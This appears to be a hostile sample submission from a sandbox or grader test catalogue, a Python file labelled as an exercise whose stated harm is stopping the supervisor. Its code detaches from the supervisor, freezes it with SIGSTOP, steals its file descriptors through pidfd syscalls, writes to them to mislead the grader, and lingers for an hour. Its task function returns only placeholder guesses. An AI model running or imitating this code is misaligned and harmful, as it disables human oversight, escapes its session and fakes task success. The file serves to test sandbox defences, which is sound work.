"""Stops its supervisor, takes its control socket, tells the grader over it that all is gone, and lives on.

exercise: 03_gather
catalogue: own
harm: stops the supervisor and leaves a process behind
"""

import ctypes
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    supervisor = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(1, 0, 0, 0, 0)
    for pid in (os.getppid(),):
        with open(f"/proc/{pid}/stat") as stat:
            supervisor = int(stat.read().rpartition(")")[2].split()[1])
    os.kill(supervisor, signal.SIGSTOP)
    handle = libc.syscall(434, supervisor, 0)
    for number in range(3, 32):
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            try:
                os.write(stolen, b".")
            except OSError:
                pass
    time.sleep(3600)


async def collect(first, second, third):
    return ["guess", "guess", "guess"]
